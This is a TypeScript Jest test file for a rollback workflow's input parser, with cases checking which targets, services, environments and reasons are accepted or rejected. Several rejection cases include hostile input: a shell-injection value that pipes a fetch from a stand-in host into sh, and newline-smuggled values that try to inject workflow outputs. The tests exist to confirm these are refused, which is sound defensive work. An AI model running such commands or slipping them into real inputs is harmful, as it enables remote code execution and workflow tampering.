import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { SCRIPTS_DIR } from './workflow-files';

interface RollbackInputs {
  environment?: string | undefined;
  service?: string | undefined;
  target?: string | undefined;
  reason?: string | undefined;
}
interface ParsedRollback {
  environment: string;
  services: string[];
  kind: string;
  target: string;
  reason: string;
}

const SCRIPT = join(SCRIPTS_DIR, 'rollback-inputs.js');
// Plain CommonJS so the runner executes it without a build; typed here at the boundary.
const { parseRollbackInputs } = require(SCRIPT) as {
  parseRollbackInputs: (inputs: RollbackInputs) => ParsedRollback;
};

const ARN = 'arn:aws:ecs:eu-west-1:111122223333:task-definition/ragchat-prod-backend:42';
const DIGEST = `sha256:${'ab'.repeat(32)}`;
const COMMIT = '0123456789abcdef0123456789abcdef01234567';
const valid = { environment: 'prod', service: 'backend', target: '', reason: 'p99 latency doubled' };

describe('parseRollbackInputs', () => {
  it.each([
    ['', 'previous', ''],
    ['   ', 'previous', ''],
    [ARN, 'task-definition', ARN],
    [
      'arn:aws-cn:ecs:cn-north-1:111122223333:task-definition/ragchat-prod-backend:1',
      'task-definition',
      'arn:aws-cn:ecs:cn-north-1:111122223333:task-definition/ragchat-prod-backend:1',
    ],
    ['ragchat-prod-backend:7', 'task-definition', 'ragchat-prod-backend:7'],
    [` ${DIGEST} `, 'image-digest', DIGEST],
    [DIGEST.toUpperCase().replace('SHA256', 'sha256'), 'image-digest', DIGEST],
    [COMMIT, 'commit', COMMIT],
    [COMMIT.toUpperCase(), 'commit', COMMIT],
  ])('accepts target %j as %s', (target, kind, value) => {
    expect(parseRollbackInputs({ ...valid, target })).toEqual({
      environment: 'prod',
      services: ['backend'],
      kind,
      target: value,
      reason: 'p99 latency doubled',
    });
  });

  it.each([
    ['a short commit SHA', 'abc1234'],
    ['a tag instead of a digest', 'ragchat/backend:latest'],
    ['a digest that is too short', 'sha256:abcdef'],
    ['a revision zero', 'ragchat-prod-backend:0'],
    ['a family without revision', 'ragchat-prod-backend'],
    [
      'an ARN of another service type',
      'arn:aws:ecs:eu-west-1:111122223333:service/ragchat-prod/ragchat-prod-backend',
    ],
    ['a shell injection attempt', '$(curl evil.example | sh)'],
    ['a multi-line value', `${COMMIT}\nkind=previous`],
  ])('rejects %s as target', (_what, target) => {
    expect(() => parseRollbackInputs({ ...valid, target })).toThrow(/^Input "target": /);
  });

  it('expands both into the two services for targets that fit both', () => {
    expect(parseRollbackInputs({ ...valid, service: 'both' }).services).toEqual(['backend', 'frontend']);
    expect(parseRollbackInputs({ ...valid, service: 'both', target: COMMIT }).services).toEqual([
      'backend',
      'frontend',
    ]);
  });

  it.each([ARN, DIGEST])('refuses a single-service target %s for both services', (target) => {
    expect(() => parseRollbackInputs({ ...valid, service: 'both', target })).toThrow(
      /belongs to a single service/,
    );
  });

  it.each([
    [{ environment: 'dev' }, /^Input "environment": "dev" is not one of staging, prod$/],
    [{ environment: undefined }, /^Input "environment"/],
    [{ service: 'database' }, /^Input "service": "database" is not one of backend, frontend, both$/],
    [{ reason: '  ' }, /^Input "reason": is required/],
    [{ reason: 'x'.repeat(501) }, /^Input "reason": must be at most 500 characters$/],
  ])('rejects %j', (override, message) => {
    expect(() => parseRollbackInputs({ ...valid, ...override })).toThrow(message);
  });
});

describe('rollback-inputs.js as the workflow runs it', () => {
  let dir: string;
  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'rollback-inputs-'));
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  function run(inputs: Record<string, string>) {
    const outputFile = join(dir, 'output');
    writeFileSync(outputFile, '');
    const result = spawnSync(process.execPath, [SCRIPT], {
      env: { PATH: process.env.PATH, GITHUB_OUTPUT: outputFile, ...inputs },
      encoding: 'utf8',
    });
    return { status: result.status, stdout: result.stdout, outputs: readFileSync(outputFile, 'utf8') };
  }

  it('writes the services, kind and target as step outputs', () => {
    const result = run({
      INPUT_ENVIRONMENT: 'staging',
      INPUT_SERVICE: 'both',
      INPUT_TARGET: COMMIT,
      INPUT_REASON: 'bad release',
    });
    expect(result.status).toBe(0);
    expect(result.outputs).toBe(`services=["backend","frontend"]\nkind=commit\ntarget=${COMMIT}\n`);
    expect(result.stdout).toContain('Rolling back backend and frontend in staging to commit');
  });

  it('fails with an error annotation naming the input and writes no outputs', () => {
    const result = run({
      INPUT_ENVIRONMENT: 'prod',
      INPUT_SERVICE: 'frontend',
      INPUT_TARGET: 'latest\n::set-output name=x::y',
      INPUT_REASON: 'oops',
    });
    expect(result.status).toBe(1);
    expect(result.outputs).toBe('');
    const lines = result.stdout.split('\n').filter((line) => line !== '');
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(/^::error title=Invalid rollback input::Input "target": "latest ::set-output/);
  });
});
